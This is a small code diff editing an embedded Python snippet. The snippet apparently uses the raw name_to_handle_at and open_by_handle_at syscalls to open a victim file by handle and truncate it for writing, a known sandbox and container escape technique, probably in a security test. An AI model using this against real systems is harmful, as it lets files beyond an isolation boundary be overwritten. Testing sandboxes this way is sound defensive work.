@@ -13,9 +13,9 @@ if TYPE_CHECKING:
 CODE = """
 handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
 mount = ctypes.c_int()
-name = sc(303, AT, c(VICTIM), handle, ctypes.byref(mount), 0)
-root = os.open("/", os.O_RDONLY)
-print(json.dumps([name, sc(304, root, handle, os.O_WRONLY | os.O_TRUNC)]))
+named = sc(303, AT, c(VICTIM), handle, ctypes.byref(mount), 0)
+root = os.open(OUT, os.O_RDONLY)
+print(json.dumps([named, sc(304, root, handle, os.O_WRONLY | os.O_TRUNC)]))
 """
 
 
